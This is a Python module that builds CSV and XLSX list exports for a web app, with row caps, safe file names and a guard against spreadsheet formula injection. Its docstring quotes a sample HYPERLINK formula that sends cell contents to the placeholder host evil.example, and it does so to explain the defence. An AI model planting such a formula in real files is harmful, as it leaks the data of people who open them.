"""Files people download and open in a spreadsheet, CSV or XLSX (`?format=csv|xlsx` on a list):
every matching row the viewer may see, with the list's filters, up to EXPORT_CAP rows; every
cell goes through `safe_cell`.

A spreadsheet treats a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return
before one) as a formula, so a title like `=HYPERLINK("http://evil.example/?x="&A1,"click")`
would run when the export is opened. Following OWASP's advice on CSV injection, such text is
written with a leading apostrophe, which spreadsheets show as plain text. Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import AsyncIterator, Awaitable, Callable, Iterable, Iterator
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font
from starlette.requests import Request
from starlette.responses import Response, StreamingResponse

EXPORT_CAP = 10_000  # rows in one export; the page says so, and the file says when it was cut
FORMATS = ("csv", "xlsx")
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?\Z")


def safe_cell(value: object) -> object:
    """The value as a spreadsheet should store it: text that could start a formula is
    prefixed with an apostrophe; numbers, dates and empty cells are left alone."""
    if value is None or isinstance(value, (bool, int, float, Decimal)):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.match(text):
        return "'" + text
    return text


def file_name(name: str, extension: str) -> str:
    """A download name made only of letters, digits and dashes, so no header can be forged."""
    stem = "".join(c if c.isalnum() and c.isascii() else "-" for c in name.lower()).strip("-")
    return f"{stem or 'export'}.{extension}"


def export_format(request: Request) -> str | None:
    """`csv` or `xlsx` when the list is asked for as a file, else None (the page)."""
    wanted = request.query_params.get("format")
    return wanted if wanted in FORMATS else None


@dataclass(frozen=True)
class Column:
    """One column of an export: its heading and how a row (a node of the page's query) gives
    its value; a number stays a number, text is neutralised."""

    title: str
    value: Callable[[dict[str, Any]], object]


Fetch = Callable[[str | None], Awaitable[tuple[list[dict[str, Any]], str | None]]]


async def every_row(fetch: Fetch, cap: int = EXPORT_CAP) -> tuple[list[dict[str, Any]], bool]:
    """All the rows a paged read gives (`fetch(after)` -> rows, the next cursor or None), up
    to `cap`; and whether there were more."""
    rows: list[dict[str, Any]] = []
    after: str | None = None
    while True:
        page, after = await fetch(after)
        rows += page
        if len(rows) >= cap:
            return rows[:cap], len(rows) > cap or after is not None
        if after is None:
            return rows, False


def _table(columns: list[Column], rows: Iterable[dict[str, Any]]) -> Iterator[list[object]]:
    for row in rows:
        yield [safe_cell(column.value(row)) for column in columns]


def export_response(
    fmt: str, columns: list[Column], rows: list[dict[str, Any]], name: str, cut: bool = False
) -> Response:
    """The rows as a CSV (streamed) or XLSX download named after `name`. A file cut at the
    cap ends with a line saying so."""
    header = [safe_cell(column.title) for column in columns]
    note = [f"Only the first {EXPORT_CAP:,} rows: narrow the filters for the rest."] if cut else []
    disposition = {"Content-Disposition": f'attachment; filename="{file_name(name, fmt)}"'}
    if fmt == "xlsx":
        return Response(
            _xlsx(header, _table(columns, rows), note, name), media_type=XLSX_TYPE,
            headers=disposition,
        )  # fmt: skip

    async def lines() -> AsyncIterator[str]:
        out = io.StringIO()
        writer = csv.writer(out)
        writer.writerow(header)
        for number, values in enumerate(_table(columns, rows), 1):
            writer.writerow(values)
            if number % 500 == 0:
                yield out.getvalue()
                out.seek(0)
                out.truncate()
        if note:
            writer.writerow(note)
        yield out.getvalue()

    return StreamingResponse(lines(), media_type="text/csv; charset=utf-8", headers=disposition)


def _xlsx(header: list[object], rows: Iterator[list[object]], note: list[str], name: str) -> bytes:
    book = Workbook(write_only=True)
    sheet = book.create_sheet(title=(name[:31] or "Export").translate(_SHEET_NAME))
    bold = Font(bold=True)
    titles = []
    for title in header:
        cell = WriteOnlyCell(sheet, value=title)
        cell.font = bold
        titles.append(cell)
    sheet.append(titles)
    for values in rows:
        sheet.append([_xlsx_value(value) for value in values])
    if note:
        sheet.append(note)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


_SHEET_NAME = str.maketrans({c: "-" for c in "[]:*?/\\"})


def _xlsx_value(value: object) -> object:
    """XLSX stores numbers as numbers (Decimal as float) and everything else as text."""
    if isinstance(value, Decimal):
        return float(value)
    if isinstance(value, str) and _PLAIN_NUMBER.match(value):
        number = Decimal(value)
        return (
            int(number)
            if number == number.to_integral_value() and "." not in value
            else float(number)
        )
    return value
